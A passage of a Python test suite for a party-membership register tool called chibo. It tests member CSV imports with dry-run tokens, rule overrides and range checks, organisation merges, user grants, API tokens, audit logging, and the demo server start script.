    stored = js(chibo("member", "list", "--json", "--q", "001085001111",
                      db=db))["items"]
    assert len(stored) == 1, stored
    before = js(chibo("member", "show", str(stored[0]["id"]), "--json",
                      db=db))
    rows = vi_rows()
    rows[0] = rows[0].replace("Nguyễn Văn Dũng", "Trịnh Văn Khác") \
        .replace("12/04/1985", "13/04/1985")                  # row 2
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + rows) + "\n")
    for extra in ([], ["--dry-run"]):
        r = fail(chibo("import", "members", path, *extra, db=db))
        assert "dòng 2, Số CCCD" in r.err and "Nguyễn Văn Dũng" in r.err \
            and "CB-VP-1" in r.err and "khác: Họ và tên, Ngày sinh" \
            in r.err and "full_name" not in r.err, r
    after = js(chibo("member", "show", str(before["id"]), "--json", db=db))
    assert after == before, (after, before)
    # Row 3 has no conflict: refused, nothing written.
    r = fail(chibo("import", "members", path, "--accept-identity", "2,3",
                   db=db, lang="en"))
    assert "Row 3" in r.err, r
    assert js(chibo("member", "show", str(before["id"]), "--json",
                    db=db)) == before
    fail(chibo("import", "members", path, "--accept-identity", "2,x",
               db=db), 2)
    r = ok(chibo("import", "members", path, "--accept-identity", "2",
                 db=db, lang="en"))
    assert "1 updated, 2 unchanged" in r.out, r
    after = js(chibo("member", "show", str(before["id"]), "--json", db=db))
    assert after["full_name"] == "Trịnh Văn Khác" and \
        after["birth_date"] == "1985-04-13" and \
        after["version"] > before["version"], after


def token_of(r):
    """The token a --dry-run printed."""
    lines = [x for x in r.out.splitlines() if x.startswith("chibo: token: ")]
    assert len(lines) == 1, r
    return lines[0].split(": ", 2)[2]


@test
def import_check_token_and_preview():
    """--dry-run prints every update field by field (labels, dd/mm/yyyy)
    and the check's token; --token applies only that file with those
    options, while the register is as the check found it."""
    db = demo_db("imp_token")
    path = os.path.join(TMP, f"tok-{BACKEND}.csv")
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + vi_rows()) + "\n")
    ok(chibo("import", "members", path, db=db))
    stored = js(chibo("member", "list", "--json", "--q", "001085001111",
                      db=db))["items"][0]
    rows = vi_rows()
    rows[0] = rows[0].replace("03/02/2010;03/02/2011", "04/02/2010;04/02/2011")
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + rows) + "\n")
    r = ok(chibo("import", "members", path, "--dry-run", db=db))
    assert f"Dòng 2: #{stored['id']} Nguyễn Văn Dũng, " in r.out, r
    assert "(CB-VP-1)" in r.out, r
    assert "    Ngày vào Đảng (admitted_on): 03/02/2010 -> 04/02/2010" \
        in r.out, r
    assert "    Ngày chính thức (official_on): 03/02/2011 -> 04/02/2011" \
        in r.out, r
    assert "1 cập nhật, 2 không đổi" in r.out, r
    tok = token_of(r)
    r = ok(chibo("import", "members", path, "--dry-run", db=db, lang="en"))
    assert "    Admission date (admitted_on): 03/02/2010 -> 04/02/2010" \
        in r.out and token_of(r) == tok, r
    before = js(chibo("member", "show", str(stored["id"]), "--json", db=db))
    # Another file, other options, a bad token: refused, nothing written.
    other = path + ".other.csv"
    with open(other, "w", encoding="utf-8") as f:
        f.write("\n".join([HEADER_VI] + rows[:2]) + "\n")
    for args in ([other, "--token", tok],
                 [path, "--token", tok, "--accept-identity", "2"],
                 [path, "--token", tok[:-1] + ("A" if tok[-1] != "A"
                                               else "B")]):
        r = fail(chibo("import", "members", *args, db=db))
        assert "Mã kiểm tra không khớp" in r.err, r
    fail(chibo("import", "members", path, "--token", "", db=db), 2)
    assert js(chibo("member", "show", str(stored["id"]), "--json",
                    db=db)) == before
    # A write after the check: stale, nothing written.
    ok(chibo("member", "edit", str(stored["id"]), "--phone", "0911222333",
             db=db))
    mid = js(chibo("member", "show", str(stored["id"]), "--json", db=db))
    r = fail(chibo("import", "members", path, "--token", tok, db=db,
                   lang="en"))
    assert "The register changed after the check" in r.err, r
    assert js(chibo("member", "show", str(stored["id"]), "--json",
                    db=db)) == mid
    # Checked again and applied with its token.
    tok = token_of(ok(chibo("import", "members", path, "--dry-run", db=db)))
    r = ok(chibo("import", "members", path, "--token", tok, db=db,
                 lang="en"))
    assert "1 updated, 2 unchanged" in r.out, r
    after = js(chibo("member", "show", str(stored["id"]), "--json", db=db))
    assert after["admitted_on"] == "2010-02-04" and \
        after["phone"] == "0911222333", after
    # One audit entry for the import, naming the file; its member entry
    # names the batch.
    e = js(chibo("audit", "list", "--action", "member.import", "--json",
                 "--limit", "1", db=db))[0]
    import hashlib
    with open(path, "rb") as f:
        sha = hashlib.sha256(f.read()).hexdigest()
    d = e["detail"]
    assert e["object_type"] == "batch" and d["file_name"] == \
        os.path.basename(path) and d["file_sha256"] == sha and \
        d["rows"] == 3 and d["created"] == 0 and d["updated"] == 1, e
    u = js(chibo("audit", "list", "--action", "member.update", "--member",
                 str(stored["id"]), "--json", "--limit", "1", db=db))[0]
    assert u["detail"] == {"import_batch": d["batch_id"]}, u
    ok(chibo("audit", "verify", db=db))


# ------------------------------------------------------------------ rules

@test
def rules_and_overrides():
    db = demo_db("rules")
    r = ok(chibo("rules", "list", db=db))
    assert "member.admission_age" in r.out and "294-QĐ/TW" in r.out, r
    r = ok(chibo("rules", "list", "--on", "2023-01-01", db=db))
    assert "24-QĐ/TW" in r.out and "294-QĐ/TW" not in r.out, r
    allv = js(chibo("rules", "list", "--all", "--json", db=db))
    age = [x for x in allv if x["id"] == "member.admission_age"][0]
    assert len(age["versions"]) == 3
    ok(chibo("rules", "override", "member.admission_age", "min_months=240",
             "--org", "CB-VP-1", "--from", "2020-01-01", "--doc",
             "01-QĐ/CB", db=db))
    r = ok(chibo("rules", "list", "--org", "CB-VP-1", "--json", db=db))
    age = [x for x in json.loads(r.out)
           if x["id"] == "member.admission_age"][0]
    assert age["versions"][0]["values"]["min_months"] == 240, age
    assert age["versions"][0]["overrides"][0]["doc_no"] == "01-QĐ/CB"
    young = ["--full-name", "Phạm Văn Trẻ", "--gender", "male",
             "--birth-date", "2005-01-01", "--admitted-on", "2024-06-01",
             "--status", "probationary", "--citizen-id", "001205009999"]
    r = fail(chibo("member", "add", *young, "--org", "CB-VP-1", db=db))
    assert "20 tuổi" in r.err, r
    ok(chibo("member", "add", *young, "--org", "CB-VP-2", db=db))
    hist = js(chibo("org", "history", "CB-VP-1", "--json", db=db))
    assert any(e["kind"] == "rule_override" for e in hist), hist
    fail(chibo("rules", "override", "no.such.rule", "x=1", "--org",
               "CB-VP-1", "--from", "2020-01-01", "--doc", "1", db=db))
    # A reference list is the nation's: no override for a subtree.
    r = fail(chibo("rules", "override", "ref.religions",
                   'names=["Không"]', "--org", "CB-VP-1", "--from",
                   "2020-01-01", "--doc", "1", db=db, lang="en"))
    assert "applies nationwide" in r.err, r
    fail(chibo("rules", "override", "member.admission_age",
               "min_months=\"x\"", "--org", "CB-VP-1", "--from",
               "2020-01-01", "--doc", "1", db=db))


def sql(db, stmt):
    """Runs one SQL statement on the test database (either backend), as
    an older chibo or an operator would have written it."""
    if BACKEND == "pg":
        subprocess.run(["psql", "-q", "-v", "ON_ERROR_STOP=1", db, "-c",
                        stmt], check=True, capture_output=True)
    else:
        import sqlite3
        c = sqlite3.connect(db)
        c.execute(stmt)
        c.commit()
        c.close()


@test
def rules_typed_ranges():
    """Issue 12, finding 5: a value outside the range the rulebook
    declares is refused on override, and one stored before the check is
    not applied (the official date is not moved before admission)."""
    db = demo_db("rulerange")
    r = fail(chibo("rules", "override", "member.probation", "months=-12",
                   "--org", "CB-VP-1", "--from", "2020-01-01", "--doc",
                   "01-QĐ/CB", db=db))
    assert "months" in r.err and "1..36 tháng" in r.err, r
    r = fail(chibo("rules", "override", "member.probation", "months=40",
                   "--org", "CB-VP-1", "--from", "2020-01-01", "--doc",
                   "01-QĐ/CB", db=db, lang="en"))
    assert "out of range" in r.err and "1..36 months" in r.err, r
    r = fail(chibo("rules", "override", "stats.age_bands",
                   'edges=["40","30"]', "--org", "CB-VP-1", "--from",
                   "2020-01-01", "--doc", "01-QĐ/CB", db=db, lang="en"))
    assert "ascending" in r.err, r
    r = fail(chibo("rules", "override", "org.member_holding_kinds",
                   'kinds=["cell","club"]', "--org", "CB-VP-1", "--from",
                   "2020-01-01", "--doc", "01-QĐ/CB", db=db))
    assert "club" in r.err, r
    hist = js(chibo("org", "history", "CB-VP-1", "--json", db=db))
    assert not any(e["kind"] == "rule_override" for e in hist), hist
    ok(chibo("rules", "override", "member.probation", "months=36",
             "--org", "CB-VP-2", "--from", "2020-01-01", "--doc",
             "02-QĐ/CB", db=db))
    # An override stored before values were checked: ignored, and said.
    org = js(chibo("org", "show", "CB-VP-1", "--json", db=db))
    org = org.get("org", org)
    sql(db, "INSERT INTO rule_override (rule_id, value_name, value, "
        "org_id, valid_from, doc_no, recorded_by, recorded_at) VALUES "
        "('member.probation', 'months', '-12', %d, '2020-01-01', "
        "'09-QĐ/CB', 'old', '2025-01-01T00:00:00Z')" % org["id"])
    r = ok(chibo("rules", "list", "--org", "CB-VP-1", "--json", db=db))
    assert "09-QĐ/CB" in r.err and "-12" in r.err and "1..36" in r.err, r
    prob = [x for x in json.loads(r.out) if x["id"] == "member.probation"]
    assert prob[0]["versions"][0]["values"]["months"] == 12, prob
    assert prob[0]["schema"]["months"] == {
        "type": "int", "min": 1, "max": 36, "unit": "month"}, prob
    # Official a year before admission: refused, the probation is 12.
    early = ["--full-name", "Lê Văn Sớm", "--gender", "male",
             "--birth-date", "1990-01-01", "--admitted-on", "2024-06-01",
             "--official-on", "2023-06-01", "--status", "official",
             "--org", "CB-VP-1"]
    fail(chibo("member", "add", *early, db=db))
    early[early.index("2023-06-01")] = "2025-06-01"
    ok(chibo("member", "add", *early, db=db))


@test
def rules_discipline():
    """Issue 14: the discipline rules are listed with their citations,
    typed and ranged like every rule; the catalogue of violations is the
    nation's (no override); a committee's override of a period is kept."""
    db = fresh_db("drules")
    ok(chibo("init", db=db))
    ok(chibo("demo", "--no-meetings", db=db))
    rules = {r["id"]: r for r in js(chibo("rules", "list", "--json",
                                          "--on", "2026-01-01", db=db))}
    for rid in ("forms", "authority", "vote_threshold", "limitation",
                "violations", "deferral", "complaint_window", "lapse",
                "state_notice"):
        assert "discipline." + rid in rules, rid
    lim = rules["discipline.limitation"]
    assert lim["versions"][0]["values"] == {
        "khien_trach": 5, "canh_cao": 10, "cach_chuc": 10, "khai_tru": 0,
        "giai_tan": 0}, lim
    assert lim["versions"][0]["citation"]["doc"] == "69-QĐ/TW", lim
    cat = rules["discipline.violations"]["versions"][0]["values"]
    assert len(cat["codes"]) == len(cat["names"]) == len(cat["names_en"])
    assert "qd37_19" in cat["codes"] and "illegal_diploma" in \
        cat["no_limitation"], cat
    assert rules["discipline.vote_threshold"]["versions"][0]["values"][
        "khai_tru"] == "two_thirds"
    r = ok(chibo("rules", "list", "--on", "2024-01-01", db=db))
    assert "22-QĐ/TW" in r.out and "102-QĐ/TW" not in r.out, r.out
    r = ok(chibo("rules", "list", "--on", "2021-01-01", db=db))
    assert "102-QĐ/TW" in r.out, r.out
    args = ["--org", "CB-VP-1", "--from", "2026-01-01", "--doc", "03-QĐ/ĐU"]
    r = fail(chibo("rules", "override", "discipline.violations",
                   'no_limitation=["qd37_01"]', *args, db=db, lang="en"))
    assert "applies nationwide" in r.err, r
    r = fail(chibo("rules", "override", "discipline.limitation",
                   "canh_cao=40", *args, db=db))
    assert "1..30 năm" in r.err, r
    r = fail(chibo("rules", "override", "discipline.vote_threshold",
                   'khai_tru="half"', *args, db=db))
    assert "half" in r.err, r
    r = fail(chibo("rules", "override", "discipline.authority",
                   'cell=["khien_trach","phat_tien"]', *args, db=db))
    assert "phat_tien" in r.err, r
    hist = js(chibo("org", "history", "CB-VP-1", "--json", db=db))
    assert not any(e["kind"] == "rule_override" for e in hist), hist
    ok(chibo("rules", "override", "discipline.limitation", "khien_trach=3",
             *args, db=db))
    r = js(chibo("rules", "list", "--org", "CB-VP-1", "--on", "2026-06-01",
                 "--json", db=db))
    lim = [x for x in r if x["id"] == "discipline.limitation"][0]
    assert lim["versions"][0]["values"]["khien_trach"] == 3, lim


# ------------------------------------------------------------------- orgs

@test
def org_rename_move_merge():
    db = demo_db("orgs")
    ok(chibo("org", "edit", "CB-VP-5", "--name", "Chi bộ Đội Xe và Bảo vệ",
             "--on", "2026-01-15", "--doc", "15-QĐ/ĐU", db=db))
    hist = js(chibo("org", "history", "CB-VP-5", "--json", db=db))
    ren = [e for e in hist if e["kind"] == "renamed"][0]
    assert ren["details"] == {"from": "Chi bộ Đội Xe",
                              "to": "Chi bộ Đội Xe và Bảo vệ"}, ren
    assert ren["on"] == "2026-01-15" and ren["doc_no"] == "15-QĐ/ĐU"
    moving = members(db, "--org", "CB-VP-4")
    r = ok(chibo("org", "merge", "CB-VP-4", "--into", "CB-VP-5", "--on",
                 "2026-11-01", "--doc", "20-QĐ/ĐU", db=db))
    merged = js(chibo("org", "show", "CB-VP-4", "--json", db=db))
    assert merged["valid_to"] == "2026-10-31", merged
    assert merged["counts"]["members"] == 0
    after = {m["id"] for m in members(db, "--org", "CB-VP-5")}
    assert {m["id"] for m in moving} <= after
    h = js(chibo("member", "history", str(moving[0]["id"]), "--json", db=db))
    mv = [e for e in h if e["kind"] == "moved"][0]
    assert mv["doc_no"] == "20-QĐ/ĐU" and mv["on"] == "2026-11-01", mv
    # A closed cell takes no new member.
    bad = list(GOOD)
    bad[bad.index("CB-VP-1")] = "CB-VP-4"
    r = fail(chibo("member", "add", *bad, db=db))
    assert "org_id" in r.err or "Tổ chức" in r.err, r
    # Closing an organisation that still holds members is refused.
    r = fail(chibo("org", "edit", "CB-VP-5", "--close", "2026-11-20",
                   db=db))
    assert "đảng viên" in r.err, r
    # Moving a cell under another committee rewrites its subtree.
    ok(chibo("org", "edit", "CB-VP-5", "--parent", "DBCS-BTG", db=db))
    detail = js(chibo("org", "show", "DBCS-BTG", "--json", db=db))
    assert "CB-VP-5" in [c["code"] for c in detail["children"]]
    vp5 = members(db, "--org", "DBCS-BTG")
    assert {m["id"] for m in moving} <= {m["id"] for m in vp5}
    fail(chibo("org", "edit", "DBCS-VP", "--parent", "CB-VP-1", db=db))
    r = fail(chibo("org", "add", "--kind", "cell", "--name", "X", "--code",
                   "CB-VP-1", "--parent", "DBCS-VP", db=db))
    assert "Mã" in r.err, r


# --------------------------------------------------------------- accounts

@test
def accounts_tokens_audit():
    db = demo_db("accounts")
    r = ok(chibo("demo", "--accounts"))
    for name in ("admin", "vanphong", "ubkt", "bithu", "dangvien", "captren"):
        assert name in r.out, r
    users = {u["username"]: u for u in js(chibo("user", "list", "--json",
                                                db=db))}
    assert users["bithu"]["grants"][0]["role"] == "secretary"
    assert users["bithu"]["grants"][0]["org_code"] == "CB-VP-1"
    assert users["dangvien"]["member_id"] is not None
    assert "password" not in json.dumps(users)          # never serialised
    # Add with a password from stdin; refuse a short one and a bad name.
    ok(chibo("user", "add", "vp.hvdt", "--role", "office", "--org",
             "DBCS-HVDT", "--name", "Văn phòng Học viện", "--password-stdin",
             db=db, stdin="mat-khau-dai-du\n"))
    fail(chibo("user", "add", "ngan", "--role", "viewer", "--org",
               "DB-BDTTG", "--password-stdin", db=db, stdin="short\n"))
    fail(chibo("user", "add", "Hoa Hoa", "--role", "viewer", "--org",
               "DB-BDTTG", db=db))
    fail(chibo("user", "add", "vp.hvdt", "--role", "viewer", "--org",
               "DB-BDTTG", db=db))                     # taken
    fail(chibo("user", "add", "x1", "--role", "boss", "--org", "DB-BDTTG",
               db=db), 2)
    r = ok(chibo("user", "add", "tam", "--role", "viewer", "--org",
                 "DB-BDTTG", db=db))
    assert "password:" in r.out, r                        # made, shown once
    ok(chibo("user", "grant", "tam", "--role", "secretary", "--org",
             "CB-VP-2", db=db))
    fail(chibo("user", "grant", "tam", "--role", "secretary", "--org",
               "CB-VP-2", db=db))                      # already has it
    ok(chibo("user", "revoke", "tam", "--role", "secretary", "--org",
             "CB-VP-2", db=db))
    fail(chibo("user", "revoke", "tam", "--role", "secretary", "--org",
               "CB-VP-2", db=db))
    # The option "contacts": on a secretary's grant (made, or replaced on
    # the existing one), shown in the list, removed with "none"; refused
    # for another role and for an unknown name.
    ok(chibo("user", "grant", "bithu", "--role", "secretary", "--org",
             "CB-VP-1", "--allow", "contacts", db=db))
    users = {u["username"]: u for u in js(chibo("user", "list", "--json",
                                                db=db))}
    assert users["bithu"]["grants"][0]["options"] == ["contacts"], users
    assert users["vanphong"]["grants"][0]["options"] == [], users
    r = ok(chibo("user", "list", db=db))
    assert "secretary@CB-VP-1(contacts)" in r.out, r.out
    r = fail(chibo("user", "grant", "vanphong", "--role", "office", "--org",
                   "DB-BDTTG", "--allow", "contacts", db=db))
    assert "allow" in r.err and "secretary" in r.err, r
    fail(chibo("user", "grant", "bithu", "--role", "secretary", "--org",
               "CB-VP-1", "--allow", "everything", db=db), 2)
    fail(chibo("user", "revoke", "bithu", "--role", "secretary", "--org",
               "CB-VP-1", "--allow", "contacts", db=db), 2)
    ok(chibo("user", "grant", "bithu", "--role", "secretary", "--org",
             "CB-VP-1", "--allow", "none", db=db))
    users = {u["username"]: u for u in js(chibo("user", "list", "--json",
                                                db=db))}
    assert users["bithu"]["grants"][0]["options"] == [], users
    r = ok(chibo("user", "grant", "--help", db=db))
    assert "--allow" in r.out and "contacts" in r.out, r
    assert "discipline" in r.out, r
    # The option "discipline" (issue 14): on an inspection grant, listed;
    # combined with contacts on a secretary's; refused on a viewer's.
    ok(chibo("user", "grant", "ubkt", "--role", "inspection", "--org",
             "DB-BDTTG", "--allow", "discipline", db=db))
    ok(chibo("user", "grant", "bithu", "--role", "secretary", "--org",
             "CB-VP-1", "--allow", "contacts,discipline", db=db))
    users = {u["username"]: u for u in js(chibo("user", "list", "--json",
                                                db=db))}
    assert users["ubkt"]["grants"][0]["options"] == ["discipline"], users
    assert users["bithu"]["grants"][0]["options"] == \
        ["contacts", "discipline"], users
    r = fail(chibo("user", "grant", "captren", "--role", "viewer", "--org",
                   "DB-BDTTG", "--allow", "discipline", db=db))
    assert "allow" in r.err, r
    for u, role in (("ubkt", "inspection"), ("bithu", "secretary")):
        org = "DB-BDTTG" if u == "ubkt" else "CB-VP-1"
        ok(chibo("user", "grant", u, "--role", role, "--org", org,
                 "--allow", "none", db=db))
    # A new grant made with the option in one step.
    ok(chibo("user", "grant", "tam", "--role", "secretary", "--org",
             "CB-VP-2", "--allow", "contacts", db=db))
    users = {u["username"]: u for u in js(chibo("user", "list", "--json",
                                                db=db))}
    assert [g["options"] for g in users["tam"]["grants"]
            if g["org_code"] == "CB-VP-2"] == [["contacts"]], users
    ok(chibo("user", "revoke", "tam", "--role", "secretary", "--org",
             "CB-VP-2", db=db))
    ok(chibo("user", "disable", "tam", db=db))
    users = {u["username"]: u for u in js(chibo("user", "list", "--json",
                                                db=db))}
    assert users["tam"]["disabled"] is True
    ok(chibo("user", "passwd", "tam", "--password-stdin", db=db,
             stdin="mot-mat-khau-moi\n"))
    fail(chibo("user", "passwd", "nobody", db=db))
    # Tokens: printed once, listed without the secret, revocable.
    r = ok(chibo("token", "create", "vanphong", "--expires", "30",
                 "--name", "báo cáo", db=db))
    token = r.out.strip()
    assert token.startswith("chibo_") and len(token) > 40, r
    listed = js(chibo("token", "list", "--json", db=db))
    assert listed[0]["user"] == "vanphong" and listed[0]["name"] == "báo cáo"
    assert token not in json.dumps(listed)
    assert token.startswith(listed[0]["prefix"])
    ok(chibo("token", "revoke", str(listed[0]["id"]), db=db))
    assert js(chibo("token", "list", "--json", db=db))[0]["revoked_at"]
    fail(chibo("token", "revoke", "999", db=db))
    # Every write above is in the audit trail, which verifies.
    actions = [e["action"] for e in js(chibo("audit", "list", "--json",
                                             "--limit", "1000", db=db))]
    for a in ("user.create", "user.grant", "user.revoke", "user.disable",
              "user.password", "token.create", "token.revoke",
              "member.create", "org.create"):
        assert a in actions, (a, actions[:20])
    r = ok(chibo("audit", "verify", db=db))
    assert "intact" in r.out, r


@test
def audit_records_writes_and_views():
    db = demo_db("audit")
    m = members(db, "--org", "CB-VP-1")[0]
    mid = str(m["id"])
    ok(chibo("member", "edit", mid, "--phone", "0987 654 321", db=db))
    ok(chibo("member", "show", mid, db=db))
    ok(chibo("export", "members", "--org", "CB-VP-1", db=db))
    entries = js(chibo("audit", "list", "--member", mid, "--json", db=db))
    upd = [e for e in entries if e["action"] == "member.update"][0]
    assert upd["before"] == {"phone": m["phone"]}, upd
    assert upd["after"] == {"phone": "0987 654 321"}, upd
    assert upd["actor"].startswith("cli:") and upd["addr"] == "local"
    assert any(e["action"] == "member.view" for e in entries), entries
    exp = js(chibo("audit", "list", "--action", "member.export", "--json",
                   db=db))
    assert exp and exp[0]["detail"]["count"] == len(
        members(db, "--org", "CB-VP-1")), exp
    # A refused write leaves no entry.
    before = len(js(chibo("audit", "list", "--json", "--limit", "1000",
                          db=db)))
    fail(chibo("member", "edit", mid, "--citizen-id", "12", db=db))
    after = len(js(chibo("audit", "list", "--json", "--limit", "1000",
                         db=db)))
    assert before == after
    ok(chibo("audit", "verify", db=db))


@test
def make_run_script():
    """scripts/run.sh (what `make run` runs) on an empty database: creates
    it, loads the demo, serves; a second start keeps the data."""
    import signal
    import urllib.request
    root = os.environ.get("CHIBO_SOURCE_ROOT", ".")
    db = fresh_db("run") if BACKEND == "pg" else os.path.join(
        TMP, "run", "var", "chibo.db")
    for attempt in (1, 2):
        env = dict(os.environ, CHIBO_TODAY=TODAY)
        p = subprocess.Popen(["sh", os.path.join(root, "scripts/run.sh"), BIN,
                              db, "127.0.0.1:0"], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True, env=env)
        try:
            url = None
            printed = ""
            for line in p.stdout:
                printed += line
                if line.startswith("chibo: listening on "):
                    url = line.split()[-1]
                    break
            assert url, p.stderr.read()
            with urllib.request.urlopen(url + "healthz", timeout=10) as r:
                assert json.load(r)["status"] == "ok"
            # Signed in with a demo account that the script printed.
            req = urllib.request.Request(
                url + "api/v1/session", method="POST",
                data=json.dumps({"username": "vanphong",
                                 "password": "demo-vanphong-2026"}).encode(),
                headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=30) as r:
                cookie = r.headers["Set-Cookie"].split(";")[0]
            req = urllib.request.Request(url + "api/v1/members?limit=1",
                                         headers={"Cookie": cookie})
            with urllib.request.urlopen(req, timeout=10) as r:
                assert len(json.load(r)["items"]) == 1
        finally:
            p.send_signal(signal.SIGTERM)
            out, err = p.communicate(timeout=30)
        assert p.returncode == 0, err
        assert "AddressSanitizer" not in err, err
        assert "demo-vanphong-2026" in printed, printed  # the accounts
    assert len(members(db)) == 500            # the demo loaded once


if __name__ == "__main__":
    sys.exit(main())
